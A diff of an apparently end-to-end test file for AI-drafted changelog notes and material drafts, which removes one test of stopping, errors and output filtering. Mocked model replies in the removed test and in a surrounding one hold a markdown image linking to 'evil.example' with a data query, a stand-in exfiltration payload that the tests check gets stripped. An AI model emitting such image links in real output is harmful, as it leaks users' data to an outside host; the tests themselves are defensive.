@@ -103,50 +103,6 @@ describe("texts a model suggests", () => {
     expect(await page.getByLabel("Alt text", { exact: true }).inputValue()).not.toBe("");
   });
 
-  it("are notes of what changed, for members, to be copied", async () => {
-    const visitor = await site.open();
-    await visitor.goto("/changelog");
-    expect(await visitor.getByText("Write change notes").count()).toBe(0);
-    const component = (title: string) => ({
-      ...{ entityType: "component", entityId: title.toLowerCase(), action: "create" },
-      data: { id: title.toLowerCase(), title },
-    });
-    await site.service.post("/api/sync/upload", { changes: [component("Button"), component("Sheet")] });
-    const page = await open("/changelog");
-    await page.getByText("Write change notes").click();
-    const status = page.locator("[data-notes-status]");
-    const write = page.getByRole("button", { name: "Write", exact: true });
-    turn = { silentMs: 60_000 };
-    const before = model.asked.length;
-    await write.click();
-    await expect.poll(() => model.asked.length).toBe(before + 1);
-    await expect.poll(() => status.innerText()).toContain("writing …");
-    await page.getByRole("button", { name: "Stop" }).click();
-    await expect.poll(() => status.innerText()).toBe("Stopped.");
-    await expect.poll(() => model.brokenOff).toBe(1);
-
-    turn = { status: 500 };
-    await write.click();
-    await expect.poll(() => status.innerText()).toContain("Not written: ");
-    turn = {
-      text: "## New\n- **Button** and **Sheet** are there. [c1, c2]\n- Carousel is new ![x](https://evil.example/?d=1) [c1]",
-    };
-    await write.click();
-    const notes = page.getByRole("region", { name: "Change notes" });
-    await expect.poll(() => notes.getByRole("link", { name: "Sheet" }).count()).toBe(1);
-    expect(await notes.innerText()).not.toContain("Carousel");
-    expect(await notes.locator("img").count()).toBe(0);
-    expect(await notes.innerText()).toContain("1 of its sentences matched no change and is left out.");
-    expect(await violationsOn(page)).toEqual([]);
-    await look(page, "writing-notes");
-    await page.emulateMedia({ colorScheme: "dark" });
-    await look(page, "writing-notes-dark");
-    await page.setViewportSize({ width: 390, height: 844 });
-    await look(page, "writing-notes-phone");
-    await page.getByRole("button", { name: "Copy as markdown" }).click();
-    await expect.poll(() => page.locator("[data-notes-copy][data-copied]").count()).toBe(1);
-  });
-
   it("are drafted from the page of materials, and read among the drafts", async () => {
     turn = { text: "## Size\n\nUse `size` in `Button`, never `MegaDialog`. ![x](https://evil.example/?d=1)" };
     const page = await open("/admin/materials");
